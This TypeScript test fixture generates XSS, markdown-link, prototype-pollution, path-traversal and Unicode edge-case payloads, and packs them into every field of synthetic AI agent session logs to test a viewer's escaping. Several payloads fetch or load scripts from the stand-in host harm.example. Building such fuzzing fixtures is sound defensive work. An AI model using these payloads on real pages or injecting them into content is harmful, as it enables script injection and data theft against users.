/** Texts that would do harm if a page interpreted them. */

import { SessionWriter } from './sample.ts';

/** The effects of a payload that runs. The tests notice the dialog, the request, or the mark. */
const ACTS = ['alert(1)', 'window.harmed=1', "fetch('https://harm.example/')"];

const TAGS = [
  '<script>ACT</script>',
  '</script><script>ACT</script>',
  '<ScRiPt>ACT</sCrIpT>',
  '<script src=//harm.example/x.js></script>',
  '<img src=x onerror=ACT>',
  '<img src="x" onerror="ACT">',
  "<img src='https://harm.example/a.png'>",
  '<svg onload=ACT>',
  '<svg><script>ACT</script></svg>',
  '<svg><animate onbegin=ACT attributeName=x dur=1s>',
  '<body onload=ACT>',
  '<iframe src="javascript:ACT">',
  '<iframe srcdoc="<script>ACT</script>">',
  '<object data="javascript:ACT">',
  '<embed src="javascript:ACT">',
  '<a href="javascript:ACT">x</a>',
  '<a href="data:text/html,<script>ACT</script>">x</a>',
  '<form action="javascript:ACT"><button>x</button></form>',
  '<input autofocus onfocus=ACT>',
  '<details open ontoggle=ACT>x</details>',
  '<video><source onerror=ACT></video>',
  '<audio src=x onerror=ACT>',
  '<marquee onstart=ACT>x</marquee>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ACT>">',
  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
  '<template><img src=x onerror=ACT></template>',
  '<style>@import "https://harm.example/x.css";</style>',
  '</style><script>ACT</script>',
  '<link rel=stylesheet href=https://harm.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://harm.example/">',
  '<base href="https://harm.example/">',
  '"><img src=x onerror=ACT>',
  "'><img src=x onerror=ACT>",
  '"onmouseover="ACT" x="',
  "' onfocus='ACT' autofocus='",
  '`onclick=ACT`',
  '--><script>ACT</script><!--',
  ']]><script>ACT</script>',
  '</textarea><script>ACT</script>',
  '</title><script>ACT</script>',
  '</template><script>ACT</script>',
  '<!--><script>ACT</script>-->',
  '&lt;script&gt;ACT&lt;/script&gt;',
  '&#60;script&#62;ACT&#60;/script&#62;',
  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
  '<x onclick=ACT style="position:fixed;inset:0">x</x>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ACT>',
  '<select><template><style><!--</style><img src=x onerror=ACT>--></template></select>',
  '<div style="background:url(https://harm.example/b.png)">x</div>',
  '<p id=app>ACT</p>',
  '<img name=getElementById><img id=c-meta>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ACT>#x">',
];

const MARKDOWN = [
  '[x](javascript:ACT)',
  '[x](JaVaScRiPt:ACT)',
  '[x](java\tscript:ACT)',
  '[x](&#106;avascript:ACT)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:ACT)',
  '![x](javascript:ACT)',
  '![x](https://harm.example/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=ACT>)',
  '<javascript:ACT>',
  '[x]: javascript:ACT\n\n[x]',
  '[x](https://a" onmouseover="ACT)',
  '[x](https://a "t\\" onmouseover=\\"ACT")',
  '```"><script>ACT</script>\nx\n```',
  '``` x" onload="ACT\ny\n```',
  '| <img src=x onerror=ACT> |\n|---|\n| <script>ACT</script> |',
  '# <svg onload=ACT>',
  '> <script>ACT</script>',
  '- [x] <img src=x onerror=ACT>',
  '`<script>ACT</script>`',
  '[<img src=x onerror=ACT>](https://a.example)',
  '[x](file:///etc/passwd)',
  '[x](blob:ACT)',
  '[x](//harm.example)',
  '<https://a.example/"onclick="ACT>',
];

const TEXTS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  '{"__proto__":{"harmed":1}}',
  'constructor.prototype.harmed',
  '\u202Eevil\u202C',
  '\u2066x\u2069\u200F',
  'a\u0000b',
  '\uFEFFx',
  '\uD800',
  '\u2028\u2029',
  '\u001b]0;x\u0007',
  '\u{1F468}\u200D\u{1F469}',
  'Z\u0351\u036B\u0343a\u0310'.repeat(20),
  '../../../etc/passwd',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#e=<img src=x onerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)',
  ' '.repeat(300),
  'x'.repeat(5000),
  'NaN',
  '-1',
  'null',
  '<',
  '&',
  '"',
  "'",
  '\\',
  '`',
  '/(/',
  '"unclosed',
];

export function payloads(): string[] {
  const acting = [...TAGS, ...MARKDOWN].flatMap((payload) =>
    ACTS.map((act) => payload.replaceAll('ACT', act)),
  );
  return [...new Set([...acting, ...TEXTS])];
}

/**
 * A session in which every string of every type of entry is a payload. The payloads follow each other on one path.
 */
export function hostile(name: string, chosen: string[]): SessionWriter {
  const s = new SessionWriter(name, chosen[0]);
  let parent: string | null = null;
  chosen.forEach((p, at) => {
    const next = (part: string): string => `${p} ${at} ${part}`;
    const add = (part: string, type: string, members: object): void => {
      parent = s.add(next(part), parent, type, members);
    };
    const message = (part: string, members: object): void =>
      add(part, 'message', { message: members });
    const block = { type: 'text', text: p };
    const data = Buffer.from(p).toString('base64');
    message('user', {
      role: 'user',
      content: [
        block,
        { type: 'image', mimeType: p, data },
        { type: 'image', mimeType: 'image/png', data: p },
        { type: p, text: p },
      ],
    });
    message('assistant', {
      role: 'assistant',
      api: p,
      provider: p,
      model: p,
      stopReason: p,
      errorMessage: p,
      content: [
        block,
        { type: 'thinking', thinking: p },
        {
          type: 'toolCall',
          id: `${p}${at}`,
          name: p,
          arguments: { path: p, command: p, [p]: p, nested: { [p]: [p] } },
        },
        {
          type: 'toolCall',
          id: `e${p}${at}`,
          name: 'edit',
          arguments: { path: p, oldText: p, newText: `${p}\n+${p}` },
        },
      ],
    });
    message('result', {
      role: 'toolResult',
      toolCallId: `${p}${at}`,
      toolName: p,
      content: [block],
      details: { [p]: p },
      isError: at % 2 === 0,
    });
    message('command', { role: 'bashExecution', command: p, output: p, fullOutputPath: p });
    message('custom', {
      role: 'custom',
      customType: p,
      content: p,
      display: true,
      details: { [p]: p },
    });
    message('role', { role: p, content: p });
    add('custom_message', 'custom_message', {
      customType: p,
      content: p,
      display: true,
      details: { [p]: p },
    });
    add('summary', 'branch_summary', {
      fromId: p,
      summary: p,
      details: { readFiles: [p], modifiedFiles: [p] },
    });
    add('type', p === '' ? 'x' : p, { [p]: p });
    add('model', 'model_change', { provider: p, modelId: p });
    add('thinking', 'thinking_level_change', { thinkingLevel: p });
    add('label', 'label', { targetId: next('assistant'), label: p });
    if (at % 40 === 20)
      add('compaction', 'compaction', {
        summary: p,
        firstKeptEntryId: next('role'),
        tokensBefore: 10,
        details: { readFiles: [p], modifiedFiles: [p] },
      });
  });
  s.add(`${chosen[0] ?? ''} name`, parent, 'session_info', { name: chosen[0] });
  return s;
}
